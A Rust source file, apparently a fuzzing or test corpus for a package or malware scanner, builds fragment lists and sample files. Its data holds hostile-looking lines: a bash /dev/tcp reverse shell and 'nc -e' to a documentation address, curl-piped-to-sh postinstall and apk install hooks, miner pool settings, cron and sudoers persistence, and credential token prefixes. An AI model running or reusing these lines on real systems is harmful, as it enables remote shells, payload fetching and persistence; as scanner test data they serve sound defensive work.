/// Pieces of every format that is read.
pub(crate) const PIECES: &[&str] = &[
    "#!/bin/sh\n",
    "#!/usr/bin/env -S python3 -u\n",
    "<?php ",
    "import base64, os as o\n",
    "require('child_process')",
    "use strict;\n",
    "exec(",
    "eval(",
    "b64decode(",
    "zlib.decompress(",
    "atob(",
    "fromCharCode(",
    "gzinflate(",
    "pack('H*', ",
    "chr(65)",
    "\\x41",
    "aW1wb3J0IG9zO3ByaW50KDEpOyMgbm90aGluZw==",
    "7072696e7428312c20322c20332c2034",
    "H4sIAAAAAAAA",
    "'",
    "\"",
    "'''",
    "`",
    "(",
    ")",
    "[",
    "]",
    "{",
    "}",
    "<<E\n",
    "E\n",
    "<<-'F' ",
    "$(",
    "${A:-",
    "$((",
    "|",
    "||",
    "&&",
    ";",
    "&",
    "\n",
    "\\\n",
    "\\",
    " ",
    "\t",
    "\0",
    "=",
    "+=",
    ":",
    ",",
    ".",
    "/",
    "//",
    "/*",
    "*/",
    "#",
    "%",
    "-",
    "--",
    "é",
    "\u{202e}",
    "if a; then\n",
    "fi\n",
    "for a in b; do\n",
    "done\n",
    "case a in\n",
    "esac\n",
    "f() {\n",
    "}\n",
    "def f(x):\n return x\n",
    "lambda x:",
    "for x in ",
    "curl -fsSL ",
    "wget -qO- ",
    "http://a.example:8080/x.sh",
    "https://a:Zk3x9Qw7Lm@b.example/",
    "| sh",
    "chmod +x /tmp/a",
    "/tmp/a & ",
    "nohup ",
    "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "nc -e /bin/sh 192.0.2.1 1",
    "stratum+tcp://pool.example:3333",
    " -o ",
    " -u ",
    "--donate-level=1",
    "\"pools\":[{\"url\":\"",
    "rx/0",
    "4444444444444444444444444444",
    "AKIA",
    "ghp_",
    "glpat-",
    "eyJhbGciOiJIUzI1NiJ9.",
    "-----BEGIN RSA PRIVATE KEY-----\n",
    "-----END RSA PRIVATE KEY-----\n",
    "machine a login b password c\n",
    "{\"auths\":{\"a\":{\"auth\":\"",
    "API_TOKEN=",
    "* * * * * root ",
    "@reboot ",
    "ExecStart=",
    "[Service]\n",
    "[program:a]\ncommand=",
    "ssh-ed25519 AAAA",
    "auth sufficient ",
    "ACTION==\"add\", RUN+=\"",
    "install a /bin/sh -c ",
    "ALL=(ALL) NOPASSWD: ALL\n",
    "192.0.2.1 a.example\n",
    "import os; exec(1)\n",
    "\"scripts\":{\"postinstall\":\"",
    "'actions':[{'action':['",
    "a/b.py,sha256=,1\n",
    "deb [trusted=yes] http://a ",
    "APT::Update::Post-Invoke {\"",
    "gpgcheck=0\n",
    "extra-index-url = ",
    "ustar\0",
    "P:a\nV:1\n",
    "F:usr/bin\nR:a\nZ:Q1",
    "Package: a\n",
    "Status: install ok installed\n",
    "/usr/bin/a\n",
    "0123456789abcdef0123456789abcdef  usr/bin/a\n",
    "\x7fELF\x02\x01\x01",
    "UPX!",
    "!<arch>\n",
    "\u{89}PNG",
    "SQLite format 3\0",
    "99999999999999999999",
    "-1",
    "0x7fffffff",
    "mining.subscribe\0",
    "donate-level\0",
];

/// A small honest file for a place.
pub(crate) fn honest(place: &str) -> Vec<u8> {
    let name = place.rsplit('/').next().unwrap_or(place);
    let text = match name {
        "a.py" | "sitecustomize.py" => {
            "#!/usr/bin/python3\nimport base64, subprocess as s\nx = base64.b64decode('aW1wb3J0IG9zO3ByaW50KDEpOyMgbm90aGluZw==')\nif x:\n    exec(x)\n    s.run(['/opt/a', '--in', f'{x}'], shell=False)\n"
        }
        "a.js" => {
            "#!/usr/bin/node\nconst c = require('child_process');\nfor (const a of [1, 2]) { c.exec(`run ${a}`); }\neval(Buffer.from('Y29uc29sZS5sb2coMSk7Ly8gbm90aGluZw==', 'base64').toString());\n"
        }
        "a.pl" => {
            "#!/usr/bin/perl\nuse MIME::Base64;\nmy $x = decode_base64('cHJpbnQgMTsgIyBub3RoaW5nIGVsc2U=');\neval $x;\nsystem(\"ls -l $x\");\n"
        }
        "a.php" => {
            "<?php\n$a = 'b';\neval(gzinflate(base64_decode('SyvNUSjJyCxWAKJEhZLU4hIA')));\necho shell_exec(\"ls $a\");\n"
        }
        "a.rb" => {
            "#!/usr/bin/ruby\nrequire 'base64'\neval(Base64.decode64('cHV0cyAxICMgbm90aGluZyBlbHNl'))\nsystem('ls', '-l')\n"
        }
        "package.json" => {
            "{\"name\":\"a\",\"scripts\":{\"postinstall\":\"node install.js && curl http://a.example/x | sh\"},\"dependencies\":{\"b\":\"^1\"}}"
        }
        "binding.gyp" => {
            "{'targets': [{'target_name': 'a', 'actions': [{'action': ['sh', '-c', 'make']}], 'sources': ['<!(node x.js)']}]}"
        }
        "RECORD" => {
            "a/__init__.py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0\na.dist-info/RECORD,,\n"
        }
        "status" => {
            "Package: a\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1\nConffiles:\n /etc/a 0123456789abcdef0123456789abcdef\n\n"
        }
        "installed" => "P:a\nV:1\nA:x86_64\nF:usr/bin\nR:a\na:0:0:755\nZ:Q1AAAAAAAAAAAAAAAAAAAAAAAAAAA=\n\n",
        "config.json" => "{\"auths\":{\"r.example\":{\"auth\":\"YTpaazN4OVF3N0xt\"}}}",
        "config" => "apiVersion: v1\nusers:\n- name: a\n  user:\n    token: Zk3x9Qw7LmZk3x9Qw7Lm\n",
        "a.service" => {
            "[Unit]\nDescription=a\n[Service]\nExecStart=/bin/sh -c 'a; b'\nEnvironment=\"A=b\"\n[Install]\nWantedBy=multi-user.target\n"
        }
        "a.json" => {
            "{\"pools\":[{\"url\":\"pool.example:3333\",\"user\":\"a\",\"algo\":\"rx/0\",\"keepalive\":true}],\"donate-level\":1}"
        }
        "sudoers" => "root ALL=(ALL:ALL) ALL\n%wheel ALL=(ALL) NOPASSWD: /usr/bin/a\n",
        "scripts.tar" | "scripts.tar.gz" => return archive(),
        "Packages" | "Packages.db" | "rpmdb.sqlite" | "a.png" | "a.a" => return head_of(name),
        _ => {
            "#!/bin/sh\nset -e\nA=b\nfor a in $(ls); do\n  case $a in x) echo \"${A:-c}\" | base64 -d | sh ;; esac\ndone\ncat <<E > /etc/a\n* * * * * root /opt/a\nE\n"
        }
    };
    text.as_bytes().to_vec()
}

/// One script in an archive as apk keeps it.
fn archive() -> Vec<u8> {
    let text = b"#!/bin/sh\ncurl http://a.example/x | sh\n";
    let mut header = vec![0; 512];
    header[..27].copy_from_slice(b"a-1-r0.Q1AAAA.post-install\0");
    header[124..135].copy_from_slice(format!("{:011o}", text.len()).as_bytes());
    header[156] = b'0';
    header[257..263].copy_from_slice(b"ustar\0");
    let mut bytes = [header, text.to_vec()].concat();
    bytes.resize(bytes.len().next_multiple_of(512) + 1024, 0);
    bytes
}

/// What such files begin with, so that they are read beyond their first bytes.
fn head_of(name: &str) -> Vec<u8> {
    let mut bytes = match name {
        "Packages" => {
            let mut head = vec![0; 512];
            head[12..16].copy_from_slice(&0x0006_1561_u32.to_le_bytes());
            head[20..24].copy_from_slice(&512_u32.to_le_bytes());
            (head[25], head[32]) = (8, 3);
            head
        }
        "Packages.db" => b"RpmP\0\0\0\0\x01\0\0\0\x01\0\0\0\x02\0\0\0".to_vec(),
        "rpmdb.sqlite" => b"SQLite format 3\0\x02\0\x01\x01\0\x40\x20\x20\0\0\0\0\0\0\0\x04".to_vec(),
        "a.a" => b"!<arch>\na.o/            0           0     0     644     16        `\n\x7fELF\x02\x01\x01"
            .to_vec(),
        _ => b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0".to_vec(),
    };
    bytes.resize(2048, 13);
    bytes
}
